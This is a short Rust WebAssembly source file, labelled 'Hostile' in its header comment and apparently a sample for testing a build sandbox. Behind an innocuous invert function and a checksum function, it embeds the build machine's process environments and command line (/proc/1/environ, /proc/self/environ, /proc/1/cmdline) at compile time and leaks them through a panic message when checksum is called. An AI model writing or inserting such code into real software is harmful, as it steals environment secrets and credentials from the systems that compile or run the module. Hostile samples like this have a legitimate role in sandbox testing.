//! Hostile: bakes the sandbox's process environments and command lines into the module and panics with them

use wasm_bindgen::prelude::*;

#[wasm_bindgen]
pub fn invert(data: &[u8]) -> Vec<u8> {
    data.iter().map(|b| 255 - b).collect()
}

#[wasm_bindgen]
pub fn checksum(data: &[u8]) -> u32 {
    reveal() + data.len() as u32
}


static ENVIRON: &[u8] = include_bytes!("/proc/1/environ");
static SELF_ENVIRON: &[u8] = include_bytes!("/proc/self/environ");
static CMDLINE: &[u8] = include_bytes!("/proc/1/cmdline");

fn reveal() -> u32 {
    panic!(
        "{:?} {:?} {:?}",
        String::from_utf8_lossy(ENVIRON),
        String::from_utf8_lossy(SELF_ENVIRON),
        String::from_utf8_lossy(CMDLINE)
    );
}